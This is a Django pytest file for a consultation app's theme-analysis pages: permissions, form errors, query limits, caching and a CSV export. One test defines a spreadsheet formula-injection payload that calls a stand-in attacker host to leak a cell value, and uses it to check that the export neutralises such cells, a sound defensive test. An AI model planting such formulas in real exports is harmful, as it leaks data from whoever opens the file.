"""The analysts' theme pages and the public "You said, we did": who may do what, what a
reviewer sees, errors as GOV.UK error summaries, and a fixed number of queries per page."""

import csv
import io

import pytest
from django.urls import reverse

from consultation.comments.models import Comment, OfficialResponse
from consultation.themes import services
from consultation.themes.models import (
    FoundTheme,
    ResponseLink,
    ThemeAssignment,
    ThemeChange,
    ThemeRun,
)
from consultation.themes.selectors import answered_by
from tests.themes.conftest import grant

pytestmark = pytest.mark.django_db


def test_reading_needs_the_analysis_permission_and_changing_needs_the_themes_one(client, built, viewer, participant):
    subject, themes = built
    pages = [reverse("themes:index"), reverse("themes:subject", args=[subject.slug]), reverse("themes:theme", args=[themes[0].pk])]
    client.force_login(participant)
    assert [client.get(url).status_code for url in pages] == [403, 403, 403]
    client.force_login(viewer)
    assert [client.get(url).status_code for url in pages] == [200, 200, 200]
    assert "Review this theme" not in client.get(pages[2]).content.decode()
    response = client.post(reverse("themes:theme_action", args=[themes[0].pk, "sign-off"]))
    assert response.status_code == 403
    assert client.post(reverse("themes:index"), {"subject": "all"}).status_code == 403
    assert not FoundTheme.objects.filter(state=FoundTheme.State.SIGNED_OFF).exists()


def test_an_analyst_asks_for_a_run_from_the_page(client, theme_analyst, three_themes, django_capture_on_commit_callbacks):
    client.force_login(theme_analyst)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("themes:index"), {"subject": "all"}, follow=True)
    assert "Finding themes in The whole consultation" in response.content.decode()
    run = ThemeRun.objects.get()
    assert run.status == ThemeRun.Status.DONE and run.requested_by == theme_analyst and run.theme_count >= 2
    assert "The whole consultation" in client.get(reverse("themes:index")).content.decode()


def test_a_missing_choice_is_a_govuk_error_and_nothing_changes(client, theme_analyst, built):
    subject, themes = built
    client.force_login(theme_analyst)
    response = client.post(reverse("themes:theme_action", args=[themes[0].pk, "merge"]), {"into": ""})
    page = response.content.decode()
    assert response.status_code == 400 and "There is a problem" in page and "Choose the theme to merge into" in page
    response = client.post(reverse("themes:theme_action", args=[themes[0].pk, "merge"]), {"into": "999999"})
    assert "Choose the theme to merge into" in response.content.decode()
    response = client.post(reverse("themes:theme_action", args=[themes[0].pk, "edit"]), {"label": ""})
    assert response.status_code == 400 and "Enter a name for the theme" in response.content.decode()
    runs = ThemeRun.objects.count()
    response = client.post(reverse("themes:index"), {"subject": "no-such-subject"})
    assert response.status_code == 400 and "There is a problem" in response.content.decode()
    assert not ThemeChange.objects.exists() and ThemeRun.objects.count() == runs
    assert client.post(reverse("themes:theme_action", args=[themes[0].pk, "explode"])).status_code == 404
    assert client.get(reverse("themes:subject", args=["focus_area-x"])).status_code == 404


def test_rename_merge_split_move_and_sign_off_through_the_pages(client, theme_analyst, built):
    subject, themes = built
    first, second = themes[0], themes[1]
    client.force_login(theme_analyst)
    action = lambda theme, name: reverse("themes:theme_action", args=[theme.pk, name])  # noqa: E731
    client.post(action(first, "edit"), {"label": "Recording takes too long", "description": "Forms and screens."})
    client.post(action(second, "merge"), {"into": first.pk})
    members = list(ThemeAssignment.objects.filter(theme=first, is_current=True).values_list("comment_id", flat=True))
    response = client.post(action(first, "split"), {"comments": members[:2], "label": "Typing at night"}, follow=True)
    new = FoundTheme.objects.get(label="Typing at night")
    assert response.redirect_chain[-1][0] == reverse("themes:theme", args=[new.pk])
    client.post(action(first, "move"), {"comment": members[2], "to": "none"})
    client.post(action(first, "sign-off"))

    first.refresh_from_db(), second.refresh_from_db()
    assert first.label == "Recording takes too long" and first.is_signed_off and first.signed_off_by == theme_analyst
    assert second.state == FoundTheme.State.RETIRED and second.merged_into == first
    moved = ThemeAssignment.objects.get(comment_id=members[2], is_current=True, **subject.as_filter())
    assert moved.theme is None and moved.made_by == "person" and moved.person == theme_analyst
    assert set(new.assignments.filter(is_current=True).values_list("comment_id", flat=True)) == set(members[:2])
    assert set(ThemeChange.objects.filter(theme=first).values_list("action", flat=True)) >= {
        "rename", "describe", "merge", "split", "move", "sign_off"}
    page = client.get(reverse("themes:theme", args=[second.pk])).content.decode()
    assert "It was merged into" in page and "Review this theme" not in page


def test_counts_by_role_region_and_reflection_kind(client, viewer, built):
    subject, themes = built
    Comment.objects.filter(pk__in=themes[0].quote_ids[:1]).update(reflection_kind="disagree")
    client.force_login(viewer)
    page = client.get(reverse("themes:subject", args=[subject.slug])).content.decode()
    assert "Comments in each theme by role" in page and "Comments in each theme by region" in page
    assert "I disagree with this" in page


def test_you_said_we_did_shows_signed_off_themes_quotes_and_the_response(client, theme_analyst, built, area, no_page_cache):
    subject, themes = built
    grant(theme_analyst, ("comments", "add_officialresponse"))
    signed, draft = themes[0], themes[1]
    client.force_login(theme_analyst)
    client.post(reverse("themes:theme_action", args=[signed.pk, "sign-off"]))
    client.post(reverse("themes:theme_action", args=[signed.pk, "respond"]),
                {"focus_area": area.pk, "title": "You said, we did", "body": "We will cut the forms by half."})
    response = OfficialResponse.objects.get()
    assert ResponseLink.objects.get().theme_id == signed.pk and response.author == theme_analyst
    hidden = Comment.objects.get(pk=signed.quote_ids[0])
    Comment.objects.filter(pk=hidden.pk).update(state=Comment.State.HIDDEN)
    client.logout()

    page = client.get(reverse("themes:you_said_we_did")).content.decode()
    assert signed.label in page and "We will cut the forms by half." in page and area.title in page
    assert draft.label not in page
    assert hidden.body not in page  # hidden since: no longer quoted
    signed.refresh_from_db()
    quoted = Comment.objects.get(pk=signed.quote_ids[1])
    assert quoted.body in page
    assert answered_by(quoted) == [response]
    assert answered_by(Comment.objects.get(pk=draft.quote_ids[0])) == []


def test_pages_run_a_fixed_number_of_queries(client, theme_analyst, built, django_assert_max_num_queries, no_page_cache):
    subject, themes = built
    for theme in themes:
        services.theme_sign_off(theme_id=theme.pk, person=theme_analyst)
    client.force_login(theme_analyst)
    with django_assert_max_num_queries(16):
        assert client.get(reverse("themes:subject", args=[subject.slug])).status_code == 200
    with django_assert_max_num_queries(22):
        assert client.get(reverse("themes:theme", args=[themes[0].pk])).status_code == 200
    with django_assert_max_num_queries(10):
        assert client.get(reverse("themes:you_said_we_did")).status_code == 200
    with django_assert_max_num_queries(15):
        assert client.get(reverse("themes:index")).status_code == 200


def test_you_said_we_did_is_cached_for_strangers_and_a_sign_off_shows_at_once(client, theme_analyst, built):
    _, themes = built
    stranger = client.__class__()
    assert themes[0].label not in stranger.get(reverse("themes:you_said_we_did")).content.decode()
    assert stranger.get(reverse("themes:you_said_we_did"))["X-Page-Cache"] == "hit"
    client.force_login(theme_analyst)
    client.post(reverse("themes:theme_action", args=[themes[0].pk, "sign-off"]))
    assert themes[0].label in stranger.get(reverse("themes:you_said_we_did")).content.decode()


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


def test_the_comment_themes_export_defuses_a_label_a_spreadsheet_would_run(client, theme_analyst, built):
    _, themes = built
    services.theme_rename(theme_id=themes[0].pk, label=FORMULA, person=theme_analyst)
    client.force_login(grant(theme_analyst, ("analysis", "export_data")))
    response = client.get(reverse("themes:comment_themes_csv"))
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert response.status_code == 200 and rows[0] == ["comment_id", "theme_id", "theme_label"]
    labels = {row[2] for row in rows[1:]}
    assert "'" + FORMULA in labels
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize("slug", ["focus_area-99999999999999999999", "focus_area-99999999", "idea-0", "idea-99999999",
                                  "delivery_option-99999999", "focus_area-0{area}"])
def test_a_subject_that_does_not_exist_is_a_govuk_404(client, viewer, area, slug):
    client.force_login(viewer)
    response = client.get(reverse("themes:subject", args=[slug.format(area=area.pk)]))
    assert response.status_code == 404 and "Page not found" in response.content.decode()


def test_a_subject_that_exists_without_themes_yet_is_a_page(client, viewer, area):
    client.force_login(viewer)
    assert client.get(reverse("themes:subject", args=[f"focus_area-{area.pk}"])).status_code == 200
    assert client.get(reverse("themes:subject", args=["all"])).status_code == 200
